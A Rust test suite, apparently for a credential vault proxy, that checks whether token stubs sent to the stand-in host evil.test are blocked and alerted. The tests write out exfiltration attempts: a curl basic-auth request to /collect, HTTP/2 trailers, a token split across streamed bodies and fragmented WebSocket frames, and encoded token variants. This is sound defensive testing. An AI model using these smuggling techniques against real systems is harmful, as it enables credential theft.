/// Writes `request` on a fresh tunnel to the unbound tap and reads what the vault answers (until it
/// closes, or a few seconds).
async fn to_the_tap(w: &World, request: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut tls = tunnel(w, "evil.test", w.tap_tls, b"http/1.1").await;
    let _ = tls.write_all(request).await;
    let _ = tls.flush().await;
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    // Up to the exchange's deadline for the first bytes, then until the vault has been quiet a while.
    let mut wait = EXCHANGE;
    while let Ok(Ok(n)) = tokio::time::timeout(wait, tls.read(&mut buf)).await {
        if n == 0 {
            break;
        }
        answer.extend_from_slice(&buf[..n]);
        wait = QUIET;
    }
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn stubs_toward_an_unbound_host_in_odd_places_are_blocked_alerted_and_reach_nothing() {
    let w = world(&[]).await;
    let mut failures = Vec::new();
    for (what, request) in odd_requests(w.tap_tls) {
        let before = w.alerts("evil.test").len();
        w.tapped.lock().unwrap().clear();
        let answer = to_the_tap(&w, &request).await;
        let alerted = w.alerts("evil.test").len() > before;
        let reached = stub_bytes_in(&w.tapped());
        if !alerted || !reached.is_empty() || answer.starts_with("HTTP/1.1 200") {
            failures.push(format!(
                "{what}: alert {alerted}, the tap got {reached:?}, answer {:?}",
                answer.lines().next().unwrap_or_default()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn basic_with_a_stub_over_plain_http_is_blocked_alerted_and_reaches_nothing() {
    let w = world(&[]).await;
    let url = format!("http://evil.test:{}/collect", w.tap_plain);
    let user = format!("x:{GH_STUB}");
    let (status, output) = w.curl(&["-u", &user, &url]).await;
    assert_eq!(status, 403, "{output}");
    assert!(!w.alerts("evil.test").is_empty(), "the stub over plain http is alerted");
    let reached = stub_bytes_in(&w.tapped());
    let basic = STANDARD.encode(format!("x:{GH_STUB}"));
    assert!(
        reached.is_empty() && !String::from_utf8_lossy(&w.tapped()).contains(&basic),
        "the tap got {reached:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_http2_request_trailer_with_a_stub_to_an_unbound_host_is_blocked_and_reaches_nothing() {
    use http_body_util::StreamBody;
    use hyper::body::{Bytes, Frame};
    let w = world(&[]).await;
    let tls = tunnel(&w, "evil.test", w.tap_tls, b"h2").await;
    let (mut sender, conn) =
        hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), hyper_util::rt::TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    let mut trailers = hyper::HeaderMap::new();
    trailers.insert("x-note", GH_STUB.parse().unwrap());
    let frames = vec![
        Ok::<_, std::convert::Infallible>(Frame::data(Bytes::from_static(b"hello"))),
        Ok(Frame::trailers(trailers)),
    ];
    let request = hyper::Request::post(format!("https://evil.test:{}/collect", w.tap_tls))
        .body(StreamBody::new(futures_util::stream::iter(frames)))
        .unwrap();
    let response = tokio::time::timeout(EXCHANGE, sender.send_request(request)).await;
    if let Ok(Ok(response)) = response {
        assert_ne!(response.status(), 200, "{response:?}");
    }
    assert!(!w.alerts("evil.test").is_empty(), "the trailer's stub is alerted");
    assert_eq!(stub_bytes_in(&w.tapped()), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_first_bytes_of_a_stub_in_a_streamed_body_never_reach_an_unbound_host() {
    use http_body_util::StreamBody;
    use hyper::body::{Bytes, Frame};
    let w = world(&[]).await;
    let tls = tunnel(&w, "evil.test", w.tap_tls, b"http/1.1").await;
    let (mut sender, conn) = hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(conn);
    let (head, tail) = GH_STUB.split_at(12);
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Frame<Bytes>, std::convert::Infallible>>(4);
    let body = StreamBody::new(tokio_stream_from(rx));
    let request = hyper::Request::post("/collect")
        .header("host", format!("evil.test:{}", w.tap_tls))
        .body(body)
        .unwrap();
    let send = tokio::spawn(async move { sender.send_request(request).await });
    tx.send(Ok(Frame::data(Bytes::from(format!("{}{head}", "x".repeat(70_000))))))
        .await
        .unwrap();
    // Wait until the filler has reached the tap: everything before the possible stub went on.
    support::wait_until_async("the body's first 70000 bytes at the tap", EXCHANGE, || async {
        let tapped = w.tapped();
        let filler = tapped.iter().filter(|b| **b == b'x').count();
        if filler >= 70_000 {
            Ok(())
        } else {
            Err(format!("{} bytes did", tapped.len()))
        }
    })
    .await;
    // Give the vault every chance to send the held-back prefix before the rest arrives.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let early = w.tapped();
    let _ = tx.send(Ok(Frame::data(Bytes::from(format!("{tail} and more"))))).await;
    drop(tx);
    let _ = tokio::time::timeout(EXCHANGE, send).await;
    assert!(
        !String::from_utf8_lossy(&early).contains(head),
        "the stub's first {} bytes reached the unbound host before the block",
        head.len()
    );
    assert_eq!(stub_bytes_in(&w.tapped()), Vec::<String>::new());
    assert!(!w.alerts("evil.test").is_empty(), "the stub is alerted");
}

/// A stream of the frames `rx` yields.
fn tokio_stream_from<T: Send + 'static>(
    mut rx: tokio::sync::mpsc::Receiver<T>,
) -> impl futures_util::Stream<Item = T> + Send + 'static {
    futures_util::stream::poll_fn(move |cx| rx.poll_recv(cx))
}

#[tokio::test(flavor = "multi_thread")]
async fn the_first_bytes_of_a_stub_in_a_fragmented_websocket_message_never_reach_an_unbound_host() {
    let w = world(&[]).await;
    let mut ws = websocket::raw_connect(&w, "evil.test", w.tap_ws).await;
    let (head, tail) = GH_STUB.split_at(12);
    websocket::send_frame(&mut ws, false, 0x1, format!("hello {head}").as_bytes()).await;
    // The tap records each frame's unmasked payload; wait for the greeting to arrive (it must:
    // everything before a possible stub goes on), then a little longer.
    support::wait_until_async("the first fragment's text at the tap", EXCHANGE, || async {
        String::from_utf8_lossy(&w.tapped()).contains("hello")
    })
    .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let early = w.tapped();
    websocket::send_frame(&mut ws, true, 0x0, tail.as_bytes()).await;
    let _ = tokio::time::timeout(Duration::from_secs(3), websocket::read_all(&mut ws)).await;
    assert!(
        !String::from_utf8_lossy(&early).contains(head),
        "the stub's first bytes reached the unbound host in the first fragment"
    );
    assert_eq!(stub_bytes_in(&w.tapped()), Vec::<String>::new());
    assert!(!w.alerts("evil.test").is_empty(), "the stub is alerted");
}

/// The WebSocket ends of the suite: a bound store that serves the handshake's token back in
/// fragmented frames, an unbound tap that records each frame's payload, and raw client framing.
mod websocket {
    use super::*;
    use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

    /// The messages the store serves after the handshake, in order.
    pub const SERVED: &[&str] = &["literal fragmented", "base64", "hex", "json-u", "masked"];

    /// A TLS WebSocket server that records the handshake (version `websocket`) and then sends the
    /// token of its `Authorization` back as [`SERVED`], each message in three fragments.
    pub async fn store(ca: Arc<CertificateAuthority>, log: Arc<Mutex<Vec<Seen>>>) -> u16 {
        use futures_util::SinkExt;
        use tokio_tungstenite::tungstenite::Message;
        use tokio_tungstenite::tungstenite::protocol::frame::Frame;
        use tokio_tungstenite::tungstenite::protocol::frame::coding::{Data, OpCode};
        let (listener, port, acceptor) = support::upstream::tls_listener(ca, &[]).await;
        tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                let (acceptor, log) = (acceptor.clone(), log.clone());
                tokio::spawn(async move {
                    let Ok(tls) = acceptor.accept(tcp).await else { return };
                    let token = Arc::new(Mutex::new(String::new()));
                    let keep = token.clone();
                    #[allow(clippy::result_large_err)]
                    let record = move |req: &tokio_tungstenite::tungstenite::handshake::server::Request,
                                       resp: tokio_tungstenite::tungstenite::handshake::server::Response| {
                        let headers: Vec<(String, String)> = req
                            .headers()
                            .iter()
                            .map(|(n, v)| (n.to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
                            .collect();
                        let auth = req
                            .headers()
                            .get("authorization")
                            .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
                            .unwrap_or_default();
                        *keep.lock().unwrap() = auth.split_once(' ').map_or(auth.clone(), |(_, t)| t.to_owned());
                        log.lock().unwrap().push(Seen {
                            host: String::new(),
                            version: "websocket".into(),
                            path: req.uri().to_string(),
                            headers,
                            body: Vec::new(),
                        });
                        Ok(resp)
                    };
                    let Ok(mut ws) = tokio_tungstenite::accept_hdr_async(tls, record).await else {
                        return;
                    };
                    let token = token.lock().unwrap().clone();
                    let served = support::upstream::serve;
                    for name in SERVED {
                        let text = match *name {
                            "literal fragmented" => format!("the token is {token}"),
                            "base64" => {
                                String::from_utf8_lossy(&served("b64-std-1", token.as_bytes()).body).into_owned()
                            }
                            "hex" => String::from_utf8_lossy(&served("hex", token.as_bytes()).body).into_owned(),
                            "json-u" => String::from_utf8_lossy(&served("json-u", token.as_bytes()).body).into_owned(),
                            _ => String::from_utf8_lossy(&served("masked", token.as_bytes()).body).into_owned(),
                        };
                        let bytes = text.into_bytes();
                        let third = bytes.len() / 3;
                        let parts = [&bytes[..third], &bytes[third..2 * third], &bytes[2 * third..]];
                        for (i, part) in parts.iter().enumerate() {
                            let opcode = if i == 0 {
                                OpCode::Data(Data::Text)
                            } else {
                                OpCode::Data(Data::Continue)
                            };
                            let frame = Frame::message(part.to_vec(), opcode, i == 2);
                            if ws.send(Message::Frame(frame)).await.is_err() {
                                return;
                            }
                        }
                    }
                    let _ = ws.flush().await;
                    // Keep the socket open until the client leaves.
                    use futures_util::StreamExt;
                    while let Some(Ok(_)) = ws.next().await {}
                });
            }
        });
        port
    }

    /// A TLS WebSocket server that answers the handshake by hand and then records each frame's
    /// unmasked payload as it arrives (frame by frame, not message by message) in `bytes`.
    pub async fn tap(ca: Arc<CertificateAuthority>, bytes: Arc<Mutex<Vec<u8>>>) -> u16 {
        let (listener, port, acceptor) = support::upstream::tls_listener(ca, &[]).await;
        tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                let (acceptor, bytes) = (acceptor.clone(), bytes.clone());
                tokio::spawn(async move {
                    let Ok(mut tls) = acceptor.accept(tcp).await else {
                        return;
                    };
                    let mut head = Vec::new();
                    while !head.ends_with(b"\r\n\r\n") {
                        let Ok(byte) = tls.read_u8().await else { return };
                        head.push(byte);
                    }
                    bytes.lock().unwrap().extend_from_slice(&head);
                    let text = String::from_utf8_lossy(&head).into_owned();
                    let key = text
                        .lines()
                        .find_map(|l| {
                            let (n, v) = l.split_once(':')?;
                            n.eq_ignore_ascii_case("sec-websocket-key").then(|| v.trim().to_owned())
                        })
                        .unwrap_or_default();
                    let accept = {
                        let digest = ring::digest::digest(
                            &ring::digest::SHA1_FOR_LEGACY_USE_ONLY,
                            format!("{key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11").as_bytes(),
                        );
                        STANDARD.encode(digest.as_ref())
                    };
                    let answer = format!(
                        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: {accept}\r\n\r\n"
                    );
                    if tls.write_all(answer.as_bytes()).await.is_err() {
                        return;
                    }
                    while let Some((_, _, payload)) = read_frame(&mut tls).await {
                        bytes.lock().unwrap().extend_from_slice(&payload);
                    }
                });
            }
        });
        port
    }

    /// Reads one frame: (fin, opcode, unmasked payload); `None` at the end.
    pub async fn read_frame<R: AsyncRead + Unpin>(from: &mut R) -> Option<(bool, u8, Vec<u8>)> {
        let mut first = [0u8; 2];
        from.read_exact(&mut first).await.ok()?;
        let len = match first[1] & 0x7f {
            126 => u64::from(from.read_u16().await.ok()?),
            127 => from.read_u64().await.ok()?,
            n => u64::from(n),
        };
        let mut key = [0u8; 4];
        let masked = first[1] & 0x80 != 0;
        if masked {
            from.read_exact(&mut key).await.ok()?;
        }
        let mut payload = vec![0u8; usize::try_from(len).ok()?];
        from.read_exact(&mut payload).await.ok()?;
        if masked {
            for (i, b) in payload.iter_mut().enumerate() {
                *b ^= key[i % 4];
            }
        }
        Some((first[0] & 0x80 != 0, first[0] & 0x0f, payload))
    }

    /// Sends one masked client frame.
    pub async fn send_frame<W: AsyncWrite + Unpin>(to: &mut W, fin: bool, opcode: u8, payload: &[u8]) {
        let mut frame = vec![if fin { 0x80 } else { 0 } | opcode];
        assert!(payload.len() < 126);
        frame.push(0x80 | payload.len() as u8);
        let key = [0x37, 0xfa, 0x21, 0x3d];
        frame.extend_from_slice(&key);
        frame.extend(payload.iter().enumerate().map(|(i, b)| b ^ key[i % 4]));
        let _ = to.write_all(&frame).await;
        let _ = to.flush().await;
    }

    /// Reads frames until the peer closes.
    pub async fn read_all<R: AsyncRead + Unpin>(from: &mut R) {
        while read_frame(from).await.is_some() {}
    }

    type ClientSocket = tokio_tungstenite::WebSocketStream<tokio_rustls::client::TlsStream<tokio::net::TcpStream>>;

    /// A WebSocket client through the vault to `host:port`, its handshake carrying `Bearer stub`.
    pub async fn connect(w: &World, host: &str, port: u16, stub: Option<&str>) -> ClientSocket {
        use tokio_tungstenite::tungstenite::client::IntoClientRequest;
        let tls = tunnel(w, host, port, b"http/1.1").await;
        let mut request = format!("wss://{host}:{port}/socket").into_client_request().unwrap();
        if let Some(stub) = stub {
            request
                .headers_mut()
                .insert("authorization", format!("Bearer {stub}").parse().unwrap());
        }
        let (ws, response) = tokio::time::timeout(EXCHANGE, tokio_tungstenite::client_async(request, tls))
            .await
            .expect("the handshake finishes in time")
            .expect("handshake through the vault");
        assert_eq!(response.status(), 101);
        ws
    }

    /// A WebSocket handshake through the vault to `host:port` by hand, returning the TLS stream to
    /// write raw frames on.
    pub async fn raw_connect(
        w: &World,
        host: &str,
        port: u16,
    ) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
        let mut tls = tunnel(w, host, port, b"http/1.1").await;
        let request = format!(
            "GET /socket HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
             Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        );
        tls.write_all(request.as_bytes()).await.unwrap();
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            head.push(tls.read_u8().await.expect("the upgrade's answer"));
        }
        assert!(head.starts_with(b"HTTP/1.1 101"), "{}", String::from_utf8_lossy(&head));
        tls
    }
}
